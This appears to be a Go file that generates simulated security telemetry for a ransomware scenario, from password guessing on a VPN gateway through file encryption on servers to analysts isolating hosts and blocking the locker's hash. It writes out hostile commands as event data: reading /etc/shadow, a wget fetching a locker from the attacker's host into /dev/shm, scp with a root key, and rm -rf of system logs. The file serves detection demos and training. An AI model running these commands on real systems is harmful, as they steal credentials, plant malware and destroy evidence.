package demo

import (
	"fmt"
	"time"
)

// ransomware: a guessed password on the gateway, the password database, two file servers
// and a backup, encrypted one after the other from shared memory.
func ransomware(s *scene) {
	c := s.company
	at := s.at(3, 2, 41)
	g := s.on("vpn-01", "ransomware", at)
	for i := range 14 {
		g.logon([]string{"admin", "backup", "root", "deploy"}[i%4], 1000, bruteForcer, "", "InvalidUserNameOrPassword")
		g.after(3 * time.Second)
	}
	g.flush()
	sh := g.logon("backup", 34, bruteForcer, "", "")
	g.flush()
	g.after(2 * time.Minute)
	su := g.runAs(sh, "/usr/bin/sudo", "sudo -i", root(g.h), nil)
	top := g.run(su, "/usr/bin/bash", "-bash")
	cat := g.run(top, "/usr/bin/cat", "cat /etc/shadow")
	g.reads(cat, "/etc/shadow")
	g.flush()
	g.after(time.Minute)
	for _, cmd := range []string{"id", "hostname", "ip neigh", "ss -tlnp", "ps aux", "lscpu", "lsblk", "who", "getent hosts file-02", "nft list ruleset"} {
		path := "/usr/bin/"
		if firstWord(cmd) == "nft" {
			path = "/usr/sbin/"
		}
		g.run(top, path+firstWord(cmd), cmd)
		g.after(time.Second)
	}
	wget := g.run(top, "/usr/bin/wget", "wget -q http://"+bruteForcer+":8000/lkr -O /dev/shm/.lkr")
	g.connect(wget, bruteForcer, 8000, "")
	tool := file("/dev/shm/.lkr", "locker", 2_411_520)
	g.file(wget, "FileCreated", tool)
	g.flush()
	g.after(16 * time.Minute)
	for i, victim := range []string{"file-02", "file-03", "backup-01"} {
		ssh := g.run(top, "/usr/bin/scp", "scp -i /root/.ssh/id_rsa /dev/shm/.lkr root@"+victim+":/dev/shm/")
		g.connect(ssh, c.host(victim).ip, 22, victim+"."+domain)
		g.flush()
		encrypt(s, victim, g.h, g.now.Add(20*time.Second), i)
		g.after(7 * time.Minute)
	}
	for i, victim := range []string{"file-02", "file-03"} {
		h := c.host(victim)
		s.people(at.Add(time.Duration(41+6*i)*time.Minute), "isolating "+victim, func(d *desk) error {
			return d.act(h, "isolate", m{"Comment": "Files are being encrypted.", "IsolationType": "Full"})
		})
	}
	s.people(at.Add(50*time.Minute), "scanning the gateway", func(d *desk) error {
		return d.act(g.h, "runAntiVirusScan", m{"Comment": "Entry point of the ransomware.", "ScanType": "Full"})
	})
	s.people(at.Add(55*time.Minute), "collecting a package", func(d *desk) error {
		return d.act(c.host("file-02"), "collectInvestigationPackage", m{"Comment": "Evidence before the rebuild."})
	})
	s.people(at.Add(70*time.Minute), "triage of the ransomware", func(d *desk) error {
		return d.triage(c.host("file-02"), m{"status": "InProgress", "assignedTo": "a.novak@" + domain, "tags": []string{"Ransomware", "Major"},
			"comment": "Password of the backup account was guessed on vpn-01. Locker in /dev/shm. file-02 and file-03 isolated; restore from backup-02 is being tested."})
	})
	s.people(at.Add(80*time.Minute), "the locker's hash", func(d *desk) error {
		return d.indicator("FileSha256", tool.SHA256, "BlockAndRemediate", "High", "Locker seen on file-02", true)
	})
}

func encrypt(s *scene, victim string, from *host, at time.Time, n int) {
	a := s.on(victim, "ransomware", at)
	sh := a.logon("root", 0, from.ip, from.name, "")
	tool := file("/dev/shm/.lkr", "locker", 2_411_520)
	a.file(sh, "FileCreated", tool)
	lk := a.payload(sh, tool, "/dev/shm/.lkr -p /srv -e .h4lden -t 8", m{"ExecutedPath": "/dev/shm/.lkr"})
	a.flush()
	a.after(10 * time.Second)
	units := []string{"Finance", "Projects", "Sales", "Legal", "Research"}
	kinds := []string{"docx", "xlsx", "pdf", "odt", "jpg", "sql"}
	for i := range 90 {
		p := fmt.Sprintf("/srv/share/%s/2026/%s-%03d.%s", units[i%5], units[(i+n)%5], i, kinds[i%6])
		old := file(p, victim+p, int64(20_000+i*977))
		a.file(lk, "FileModified", old)
		a.rename(lk, old, file(p+".h4lden", "locked"+p, old.Size+512))
	}
	a.file(lk, "FileCreated", file("/srv/share/HOW_TO_RESTORE.txt", "ransom note", 1204))
	a.flush()
	a.after(50 * time.Second)
	rm := a.run(sh, "/usr/bin/rm", "rm -rf /var/log/auth.log /var/log/syslog")
	for _, p := range []string{"/var/log/auth.log", "/var/log/syslog"} {
		a.file(rm, "FileDeleted", file(p, victim+p, 99_000))
	}
	a.file(lk, "FileDeleted", tool)
	a.flush()
}
